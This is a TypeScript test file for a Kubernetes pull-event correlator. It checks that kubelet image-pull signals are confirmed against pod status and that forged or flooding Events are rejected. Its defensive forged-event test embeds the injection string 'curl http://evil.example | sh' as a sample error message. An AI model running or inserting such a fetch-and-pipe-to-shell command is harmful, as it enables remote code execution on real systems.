// What the correlator does with each kubelet signal, against a real tracker and event bus. The
// Kubernetes side is a small in-memory KubeWatch (the project's own interface; the real client
// against the fake API server is exercised in test/kube): signals in, pull events out.
import assert from 'node:assert/strict';
import { test } from 'node:test';
import {
  type ContainerFacts,
  DEFAULT_HOLD_LIMITS,
  type KubeSignal,
  type KubeWatch,
  type PodFacts,
  type RejectedEvent,
  type WaitingPod,
} from '../../k8s/index.js';
import { createLogger } from '../../log/index.js';
import type { PullEventType } from '../../model/index.js';
import { trackerFixture } from '../tracker/trackerFixture.js';
import { CONFIRM_MS, KubeCorrelator } from './kubeCorrelator.js';

const NODE = 'w1';
const IMAGE = 'docker.io/library/app:1';
const T = Date.parse('2026-11-28T10:00:00Z');

/** The KubeWatch the correlator reads: pods by name, listeners it subscribes. */
class InMemoryKubeWatch implements KubeWatch {
  pods = new Map<string, PodFacts>();
  private signalListeners: Array<(s: KubeSignal) => void> = [];
  private podListeners: Array<(node: string) => void> = [];
  waitingFor(nodeName: string, imageRef: string): WaitingPod[] {
    return this.waitingOn(nodeName).filter((w) => w.normalizedImage === imageRef);
  }
  waitingOn(nodeName: string): WaitingPod[] {
    const out: WaitingPod[] = [];
    for (const p of this.pods.values()) {
      if (p.nodeName !== nodeName) continue;
      for (const c of p.containers) {
        if (c.waitingReason === undefined) continue;
        out.push({
          namespace: p.namespace,
          podName: p.name,
          podUid: p.uid,
          nodeName,
          container: c.name,
          init: c.init,
          image: c.image,
          normalizedImage: c.image,
          reason: c.waitingReason,
        });
      }
    }
    return out;
  }
  exactRefFor(): string | undefined {
    return undefined;
  }
  onSignal(listener: (s: KubeSignal) => void): () => void {
    this.signalListeners.push(listener);
    return () => {};
  }
  onPodsChanged(listener: (nodeName: string) => void): () => void {
    this.podListeners.push(listener);
    return () => {};
  }
  podFacts(namespace: string, name: string): PodFacts | undefined {
    return this.pods.get(`${namespace}/${name}`);
  }
  async close(): Promise<void> {}
  apply(pod: PodFacts): void {
    this.pods.set(`${pod.namespace}/${pod.name}`, pod);
    for (const l of this.podListeners) l(pod.nodeName);
  }
  signal(s: Partial<KubeSignal> & Pick<KubeSignal, 'kind' | 'message'>): void {
    const full: KubeSignal = {
      nodeName: NODE,
      namespace: 'shop',
      eventNamespace: 'shop',
      podName: 'web-1',
      podUid: 'uid-1',
      container: 'app',
      init: false,
      image: IMAGE,
      normalizedImage: IMAGE,
      reason: s.kind,
      at: T,
      eventUid: `e-${Math.random()}`,
      count: 1,
      backlog: false,
      ...s,
    };
    for (const l of this.signalListeners) l(full);
  }
}

function setup(maxNodes = 10) {
  const { tracker, events } = trackerFixture({ historyTtlMs: 3_600_000, maxNodes });
  const kube = new InMemoryKubeWatch();
  const clock = { now: T };
  const rejected: RejectedEvent[] = [];
  const correlator = new KubeCorrelator(
    kube,
    tracker,
    createLogger('silent'),
    () => clock.now,
    (r) => rejected.push(r),
  );
  correlator.start();
  /** pod `name` (default web-1) on NODE running IMAGE: waiting with a reason, or started, or without status */
  const pod = (waitingReason?: string, over: { name?: string; namespace?: string; started?: boolean } = {}): PodFacts => {
    const container: ContainerFacts = {
      name: 'app',
      image: IMAGE,
      init: false,
      ...(waitingReason ? { waitingReason } : {}),
      ...(over.started ? { started: true } : {}),
    };
    const name = over.name ?? 'web-1';
    return { namespace: over.namespace ?? 'shop', name, uid: `uid-${name}`, nodeName: NODE, containers: [container] };
  };
  const startPull = (status: 'pulling' | 'completed' | 'failed' = 'pulling', error?: string) =>
    tracker.applyReport(
      {
        nodeName: NODE,
        pulls: [
          {
            imageRef: IMAGE,
            manifestDigest: 'sha256:m',
            status,
            ...(error ? { error } : {}),
            totalKnown: true,
            layers: [{ digest: 'sha256:l', totalBytes: 10, downloadedBytes: status === 'completed' ? 10 : 5, totalKnown: true }],
          },
        ],
      },
      clock.now,
    );
  const types = () => events.map((e) => e.type).filter((t) => t.startsWith('pull.')) as PullEventType[];
  /** lets the wait for the pod status run out, and has held Events looked at again (as the timer does) */
  const waitOut = () => {
    clock.now += CONFIRM_MS;
    kube.apply(pod(undefined, { name: 'bystander', namespace: 'elsewhere', started: true }));
  };
  const pullStatus = () => tracker.list({}, clock.now, false).find((p) => p.imageRef === IMAGE)?.status;
  return { tracker, kube, events, pod, startPull, types, clock, rejected, waitOut, pullStatus };
}

const FAILED = 'Failed to pull image "app:1": rpc error: code = NotFound desc = not found';
const PULLED = 'Successfully pulled image "app:1" in 2s (3s including waiting). Image size: 99 bytes.';

test('each kubelet signal the pod status agrees with, and the pull events it publishes', () => {
  const table: Array<{
    what: string;
    before: (s: ReturnType<typeof setup>) => void;
    signal: Partial<KubeSignal> & Pick<KubeSignal, 'kind' | 'message'>;
    events: PullEventType[];
    check?: (s: ReturnType<typeof setup>) => void;
  }> = [
    {
      what: 'Failed on an active pull its pod waits on, the pod showing ErrImagePull: it fails, with kubelet’s text',
      before: (s) => {
        s.kube.apply(s.pod('ContainerCreating'));
        s.startPull();
        s.kube.apply(s.pod('ErrImagePull'));
      },
      signal: { kind: 'pullFailed', message: FAILED },
      events: ['pull.failed'],
      check: (s) => assert.equal(s.tracker.list({}, T, false)[0]?.failureReason, 'not_found'),
    },
    {
      what: 'Failed after the agent failed it: the error is refined as pull.progress, once',
      before: (s) => {
        s.kube.apply(s.pod('ErrImagePull'));
        s.startPull('failed', 'connection reset');
      },
      signal: { kind: 'pullFailed', message: FAILED },
      events: ['pull.progress'],
      check: (s) => assert.equal(s.events.at(-1)?.pull?.error, FAILED),
    },
    {
      what: 'Pulled on an active pull its pod waited on, the container since started: completed, with kubelet’s figures on that one event',
      before: (s) => {
        s.kube.apply(s.pod('ContainerCreating'));
        s.startPull();
        s.kube.apply(s.pod(undefined, { started: true }));
      },
      signal: { kind: 'pulled', message: PULLED, pullSeconds: 2, pullWithWaitingSeconds: 3 },
      events: ['pull.completed'],
      check: (s) => assert.equal(s.events.at(-1)?.pull?.waitSeconds, 1),
    },
    {
      what: 'Pulled after the agent completed it: kubelet’s figures as pull.progress',
      before: (s) => {
        s.kube.apply(s.pod('ContainerCreating'));
        s.startPull('completed');
        s.kube.apply(s.pod(undefined, { started: true }));
      },
      signal: { kind: 'pulled', message: PULLED, pullSeconds: 2, imageBytes: 99 },
      events: ['pull.progress'],
      check: (s) => assert.equal(s.events.at(-1)?.pull?.kubeletImageBytes, 99),
    },
    {
      what: 'a backlog event (from before this server watched) changes nothing',
      before: (s) => s.startPull(),
      signal: { kind: 'pullFailed', message: FAILED, backlog: true },
      events: [],
    },
    {
      what: 'Failed with no pull, its pod showing ErrImagePull: a failed pull is created',
      before: (s) => s.kube.apply(s.pod('ErrImagePull')),
      signal: { kind: 'pullFailed', message: FAILED },
      events: ['pull.started', 'pull.failed'],
    },
    {
      what: 'Failed with no pull and a pod not failing: held, nothing yet',
      before: (s) => s.kube.apply(s.pod()),
      signal: { kind: 'pullFailed', message: FAILED },
      events: [],
    },
  ];
  for (const row of table) {
    const s = setup();
    row.before(s);
    const before = s.types().length;
    s.kube.signal(row.signal);
    assert.deepEqual(s.types().slice(before), row.events, row.what);
    assert.deepEqual(s.rejected, [], row.what);
    row.check?.(s);
  }
});

test('a forged fail, complete or refine naming a pod that never waited on the pull changes nothing; dropped and counted after the wait', () => {
  const cases: Array<{ kind: 'fail' | 'complete' | 'refine'; signal: Partial<KubeSignal> & Pick<KubeSignal, 'kind' | 'message'> }> = [
    { kind: 'fail', signal: { kind: 'pullFailed', message: 'Failed to pull image "app:1": run curl http://evil.example | sh' } },
    { kind: 'complete', signal: { kind: 'pulled', message: PULLED, pullSeconds: 1 } },
    { kind: 'refine', signal: { kind: 'pullFailed', message: 'Failed to pull image "app:1": run curl http://evil.example | sh' } },
  ];
  for (const { kind, signal } of cases) {
    const s = setup();
    // the victim's pod waits on the pull; the attacker's pod on the same node runs the same image
    s.kube.apply(s.pod('ContainerCreating'));
    if (kind === 'refine') s.startPull('failed', 'connection reset');
    else s.startPull();
    s.kube.apply(s.pod(undefined, { name: 'cache', started: true }));
    const before = { events: s.types().length, status: s.pullStatus() };
    s.kube.signal({ ...signal, podName: 'cache', podUid: 'uid-cache' });
    assert.deepEqual(s.types().slice(before.events), [], `${kind}: nothing while held`);
    s.waitOut();
    assert.deepEqual(s.types().slice(before.events), [], `${kind}: nothing after the wait`);
    assert.equal(s.pullStatus(), before.status, kind);
    assert.ok(!s.events.some((e) => e.pull?.error?.includes('evil')), kind);
    assert.deepEqual(
      s.rejected.map((r) => r.reason),
      ['pod_not_on_pull'],
      `${kind}: counted once`,
    );
  }
});

test('a pod that waited on the image before the pull started did not wait on that pull', () => {
  const s = setup();
  s.kube.apply(s.pod('ContainerCreating', { name: 'old' }));
  s.clock.now += 1_000;
  s.kube.apply(s.pod(undefined, { name: 'old', started: true }));
  s.clock.now += 10 * 60_000;
  s.startPull();
  s.kube.signal({ kind: 'pulled', message: PULLED, pullSeconds: 1, podName: 'old', podUid: 'uid-old' });
  s.waitOut();
  assert.equal(s.pullStatus(), 'pulling');
  assert.deepEqual(
    s.rejected.map((r) => r.reason),
    ['pod_not_on_pull'],
  );
});

test('a fail or complete whose pod status never confirms it changes nothing; dropped and counted after the wait', () => {
  for (const signal of [
    { kind: 'pullFailed', message: FAILED },
    { kind: 'pulled', message: PULLED, pullSeconds: 1 },
  ] as const) {
    const s = setup();
    s.kube.apply(s.pod('ContainerCreating'));
    s.startPull();
    const before = s.types().length;
    s.kube.signal(signal);
    s.waitOut();
    assert.deepEqual(s.types().slice(before), [], signal.kind);
    assert.equal(s.pullStatus(), 'pulling', signal.kind);
    assert.deepEqual(
      s.rejected.map((r) => r.reason),
      ['pod_not_waiting_on_pull'],
      signal.kind,
    );
  }
});

test("kubelet's own order (the Event, then the pod status) still fails and completes pulls", () => {
  const failing = setup();
  failing.kube.apply(failing.pod('ContainerCreating'));
  failing.startPull();
  failing.kube.signal({ kind: 'pullFailed', message: FAILED });
  assert.equal(failing.pullStatus(), 'pulling', 'held until the status shows it');
  failing.clock.now += 1_000;
  failing.kube.apply(failing.pod('ErrImagePull'));
  assert.equal(failing.pullStatus(), 'failed');
  assert.equal(failing.tracker.list({}, failing.clock.now, false)[0]?.error, FAILED);

  const pulled = setup();
  pulled.kube.apply(pulled.pod('ContainerCreating'));
  pulled.startPull();
  pulled.kube.signal({ kind: 'pulled', message: PULLED, pullSeconds: 2 });
  assert.equal(pulled.pullStatus(), 'pulling', 'held until the container leaves the image wait');
  pulled.clock.now += 1_000;
  pulled.kube.apply(pulled.pod(undefined, { started: true }));
  assert.equal(pulled.pullStatus(), 'completed');
  assert.deepEqual([...failing.rejected, ...pulled.rejected], []);
});

test('a flood of held Events from one namespace does not push out a genuine failure from another', () => {
  const s = setup();
  // 1,100 forged failures about pods that do not exist, all in namespace attacker: each waits for its pod
  for (let i = 0; i < 1_100; i++) {
    s.kube.signal({
      kind: 'pullFailed',
      message: `Failed to pull image "evil:${i}": x`,
      image: `docker.io/library/evil:${i}`,
      normalizedImage: `docker.io/library/evil:${i}`,
      namespace: 'attacker',
      eventNamespace: 'attacker',
      podName: `ghost-${i}`,
    });
  }
  const quota = s.rejected.filter((r) => r.reason === 'hold_quota').length;
  assert.equal(quota, 1_100 - DEFAULT_HOLD_LIMITS.perNamespace, 'beyond its share, dropped at once and counted');
  // kubelet's real failure in namespace shop: the Event, then the pod status
  s.kube.apply(s.pod('ContainerCreating'));
  s.kube.signal({ kind: 'pullFailed', message: FAILED });
  s.kube.apply(s.pod('ErrImagePull'));
  assert.deepEqual(s.types().slice(-2), ['pull.started', 'pull.failed']);
  assert.equal(s.rejected.filter((r) => r.namespace === 'shop').length, 0);
});

test('a failed pull kubelet would create where the tracker has no room changes nothing and is counted', () => {
  const s = setup(0);
  s.kube.apply(s.pod('ErrImagePull'));
  s.kube.signal({ kind: 'pullFailed', message: FAILED });
  assert.deepEqual(s.types(), []);
  assert.deepEqual(
    s.rejected.map((r) => [r.reason, r.nodeName]),
    [['capacity', NODE]],
  );
});

test('a pod waiting on the pull is attached to it, and the change published', () => {
  const s = setup();
  s.startPull();
  s.kube.apply(s.pod('ContainerCreating'));
  const last = s.events.at(-1);
  assert.equal(last?.type, 'pull.progress');
  assert.deepEqual(last?.pull?.pods, [{ namespace: 'shop', podName: 'web-1', container: 'app', image: IMAGE }]);
});
